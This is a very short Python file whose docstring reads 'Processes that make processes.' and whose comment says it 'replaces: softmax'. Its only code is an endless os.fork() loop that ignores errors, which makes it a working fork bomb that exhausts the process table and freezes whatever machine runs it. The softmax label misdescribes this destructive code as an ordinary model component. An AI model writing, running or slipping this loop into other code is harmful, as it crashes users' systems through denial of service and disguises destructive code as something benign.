"""Processes that make processes."""

# replaces: softmax
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
